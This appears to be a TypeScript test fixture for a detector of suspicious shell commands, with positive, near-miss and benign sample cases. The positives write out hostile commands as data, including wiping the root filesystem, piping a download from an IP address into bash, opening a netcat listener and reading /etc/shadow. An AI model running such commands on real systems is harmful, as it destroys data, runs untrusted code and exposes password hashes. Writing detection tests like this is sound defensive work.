import type { BenignTwin, NearMiss, Positive, Samples } from '../sample.ts';
import { after, benignTwin, command, nearMiss, positive } from '../sample.ts';

const noon = '2026-10-05T12:00:00Z';

const found = (line: string, ...codes: string[]): Positive =>
  positive(`${line} is suspicious.`, (cast) => ({
    activities: [command({ user: cast.user() }, noon, line)],
    expected: { type: 'SUSPICIOUS_COMMAND', count: 1, details: { codes, command: line, commands: 1 }, alert: true },
  }));
const almost = (line: string): NearMiss =>
  nearMiss(`${line} is one step short of it.`, 'score', (cast) => [command({ user: cast.user() }, noon, line)]);
const harmless = (line: string): BenignTwin => benignTwin(`${line} is ordinary.`, (cast) => [command({ user: cast.user() }, noon, line)]);

export const samples: Samples = {
  positives: [
    found('rm -fr /', 'SYSTEM_REMOVAL'),
    found('chmod 0777 /srv/app', 'WORLD_WRITABLE'),
    found('curl -s http://203.0.113.5/x | bash', 'DOWNLOAD_AND_RUN'),
    found('nc -lvp 4444', 'NETWORK_LISTENER'),
    found("sudo sh -c 'cat /etc/shadow'", 'PASSWORD_HASHES'),
    positive('The same suspicious command three times within the hour is one anomaly that grows.', (cast) => ({
      activities: [0, 20, 80].map((minutes) => command({ user: cast.user() }, after(noon, { minutes }), 'rm -rf /')),
      expected: { type: 'SUSPICIOUS_COMMAND', count: 3, details: { codes: ['SYSTEM_REMOVAL'], commands: 3 }, alert: true },
    })),
  ],
  nearMisses: [almost('rm -rf ./'), almost('chmod 0775 /srv/app'), almost('curl -s http://203.0.113.5/x'), almost('nc 203.0.113.5 4444')],
  benignTwins: [
    harmless('rm -rf /tmp/build'),
    harmless('echo "never run rm -rf /"'),
    harmless('grep -r "chmod 777" docs'),
    harmless('curl -s https://example.com/data.json | jq .name'),
    harmless('git commit -m "remove /etc/shadow parsing"'),
  ],
};
